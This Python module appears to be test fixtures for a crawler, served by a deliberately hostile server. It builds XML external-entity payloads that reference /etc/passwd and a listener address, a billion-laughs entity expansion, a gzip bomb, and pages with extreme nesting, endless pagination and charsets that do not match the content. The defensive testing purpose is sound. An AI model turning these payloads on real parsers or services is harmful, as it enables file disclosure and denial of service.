"""Whole answers whose content is the attack: XML that reaches out, markup that exhausts, lies."""

import itertools
import zlib

from hostile_faults import gzip_bomb
from hostile_server import Answerer, Exchange, page
from tiny_articles import article, listing

NESTED = 200_000
LINKS = 200_000
ATTRIBUTES = 40_000


def feed(head: str, *items: str) -> str:
    return (
        f'<?xml version="1.0"?>{head}<rss version="2.0"><channel>{"".join(items)}</channel></rss>'
    )


def item(path: str, title: str = "稿件") -> str:
    return f"<item><title>{title}</title><link>{path}</link></item>"


def sitemap(head: str, *urls: str) -> str:
    locs = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return f'<?xml version="1.0"?>{head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{locs}</urlset>'


def reaching_out(listener: str) -> str:
    """A document type whose entities are a local file and two addresses."""
    return (
        f'<!DOCTYPE x SYSTEM "{listener}/external.dtd" [<!ENTITY file SYSTEM "file:///etc/passwd">'
        f'<!ENTITY web SYSTEM "{listener}/entity"><!ENTITY % all SYSTEM "{listener}/parameter"> %all;]>'
    )


def laughs() -> str:
    """A thousand million repetitions in 10 entities."""
    names = ["lol", *(f"lol{n}" for n in range(1, 10))]
    lines = "".join(
        f'<!ENTITY {name} "{f"&{below};" * 10}">' for below, name in itertools.pairwise(names)
    )
    return f'<!DOCTYPE x [<!ENTITY lol "lol">{lines}]>'


def sitemap_bomb() -> bytes:
    """A .gz file that unpacks to 300 MiB, sent as what it is: no Content-Encoding."""
    return gzip_bomb()


def attributes(count: int = ATTRIBUTES) -> str:
    named = " ".join(f"a{number}=1" for number in range(count))
    return f'<html><body><p {named}>x</p><a href="/a/behind-attributes">稿件</a></body></html>'


def nested(inner: str) -> str:
    return f"<html><body>{'<div>' * NESTED}{inner}</body></html>"


def many_links() -> str:
    """200,000 links to 40 articles."""
    links = (f"<a href=/a/flood-{number % 40}>x</a>" for number in range(LINKS))
    return f"<html><body>{''.join(links)}</body></html>"


async def endless_list(exchange: Exchange) -> None:
    """Each page of the list has a new article and a link to a next page, for ever."""
    number = int(exchange.path.rpartition("-")[2])
    links = f'<a href="/a/endless-{number}">稿件</a><a href="/endless-{number + 1}">下一页</a>'
    await exchange.answer(f"<html><body>{links}</body></html>".encode())


async def endless_parts(exchange: Exchange) -> None:
    """Each part of the article says that there is one more."""
    number = int(exchange.path.partition("_")[2].partition(".")[0] or 1)
    links = "".join(f'<a href="parts_{n}.html">{n}</a>' for n in range(2, number + 3))
    body = article(900 + number).replace("</body>", f"<div class=pages>{links}</div></body>")
    await exchange.answer(body.encode())


TEXT = "喆镕在沈阳市"
"""Not in GB2312, so that only the whole of GB18030 reads it."""


def lying(number: int, charset: str, header: str, meta: str) -> Answerer:
    """An article in ``charset`` under a header and a meta tag that say something else."""
    text = article(number).replace("<head>", f'<head><meta charset="{meta}">')
    body = text.replace("沈阳市", TEXT).encode(charset)
    return page(body, content_type=f"text/html; charset={header}" if header else "text/html")


LIES: dict[str, Answerer] = {
    "lie-latin": lying(801, "utf-8", "iso-8859-1", "utf-8"),
    "lie-utf8": lying(802, "gb18030", "utf-8", "gb2312"),
    "lie-meta": lying(803, "gb18030", "", "utf-8"),
    "lie-both": lying(804, "gb18030", "iso-8859-1", "utf-8"),
}


def feeds(listener: str) -> dict[str, Answerer]:
    """Path below /feed/ to its answer; each names one article /a/<name> where it can be read."""
    good = feed("", item("/a/truncated", "一"), item("/a/cut", "二")).encode()
    texts: dict[str, str | bytes] = {
        "reaching-out": feed(reaching_out(listener), item("/a/reaching-out", "x&file;&web;")),
        "laughs": feed(laughs(), item("/a/laughs", "x&lol9;")),
        "truncated": good[: good.index(b"/a/cut")],
        "ampersand": feed("", item("/a/ampersand", "A & B <C")),
        "control": feed("", item("/a/control", "a\x0bb\x00c\x1f")),
        "html": listing(["/a/never"]),
        "empty": b"",
        "binary": bytes(range(256)) * 32,
        "nested": feed("", "<a>" * NESTED, item("/a/never")),
    }
    return {f"/feed/{name}": page(text, content_type="text/xml") for name, text in texts.items()}


def sitemaps(listener: str, site: str) -> dict[str, Answerer]:
    out, laughing = reaching_out(listener), laughs()
    texts: dict[str, str | bytes] = {
        "reaching-out": sitemap(out, f"{site}/a/map-out", f"{site}/a/map&file;&web;"),
        "laughs": sitemap(laughing, f"{site}/a/map-laughs", f"{site}/a/map&lol9;"),
        "bomb.xml.gz": sitemap_bomb(),
        "cut.xml.gz": zlib.compress(sitemap("", f"{site}/a/map-cut").encode(), wbits=31)[:40],
    }
    return {f"/map/{name}": page(text, content_type="text/xml") for name, text in texts.items()}


def lists() -> dict[str, Answerer]:
    return {
        "/list/attributes": page(attributes(2 * ATTRIBUTES)),
        "/list/nested": page(nested('<a href="/a/behind-nesting">稿件</a>')),
        "/list/many-links": page(many_links()),
        "/list/good": page(
            listing(
                [
                    "/a/good",
                    "/a/attributes",
                    "/a/nested",
                    "/a/parts.html",
                    *(f"/a/{n}" for n in LIES),
                ]
            )
        ),
        "/endless-*": endless_list,
        "/a/good": page(article(800)),
        "/a/attributes": page(attributes()),
        "/a/nested": page(nested(article(805))),
        "/a/parts*": endless_parts,
        **{f"/a/{name}": answer for name, answer in LIES.items()},
    }
